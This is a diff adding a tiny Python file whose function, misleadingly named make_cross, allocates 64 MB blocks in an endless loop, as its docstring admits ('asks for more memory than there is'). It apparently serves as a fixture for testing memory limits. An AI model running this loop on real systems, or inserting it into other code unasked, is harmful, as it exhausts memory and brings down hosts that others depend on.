@@ -1,0 +1,6 @@
+"""Asks for more memory than there is."""
+
+def make_cross(size=7):
+    hoard = []
+    while True:
+        hoard.append(bytearray(64 * 1024 * 1024))
